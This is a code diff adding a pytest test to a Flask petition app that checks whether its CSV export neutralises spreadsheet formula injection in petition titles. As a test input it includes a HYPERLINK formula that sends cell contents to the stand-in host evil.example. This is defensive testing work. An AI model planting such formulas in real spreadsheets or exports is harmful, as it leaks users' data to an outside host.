@@ -4,7 +4,9 @@ that store nothing, the commune's administrators told when a level is crossed.""
 
 from __future__ import annotations
 
+import csv
 import html
+import io
 import re
 import tomllib
 from datetime import timedelta
@@ -404,6 +406,26 @@ def test_open_data_export(
     assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", reached[9])
     assert lines[2].split(";")[9] == ""
     assert "@" not in body
+
+
+def test_a_title_that_a_spreadsheet_would_run_is_exported_as_text(
+    app: Flask, client: FlaskClient, onboarded: Path, sign_in: SignIn
+) -> None:
+    sign_in(client, "poitiers.localhost", "camille@example.fr")
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'
+    _open(client, POITIERS, formula)
+    _open(client, POITIERS, "-1+1")
+    _open(client, POITIERS, "@SUM(A1:A2)")
+    _open(client, POITIERS, "Des bancs = de l'ombre")
+    response = client.get("/petitions.csv", headers=POITIERS)
+    assert response.status_code == 200
+    body = response.get_data(as_text=True).removeprefix("\ufeff")
+    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
+    titles = {row[1] for row in rows[1:]}
+    # Excel and LibreOffice show a cell starting with ' as text and never run it.
+    assert titles == {"'" + formula, "'-1+1", "'@SUM(A1:A2)", "Des bancs = de l'ombre"}
+    # Numbers are left as they are.
+    assert {(row[5], row[7]) for row in rows[1:]} == {("0", "50"), ("0", "900"), ("0", "4500")}
 
 
 def test_signing_needs_an_account_and_the_form_is_in_english_too(
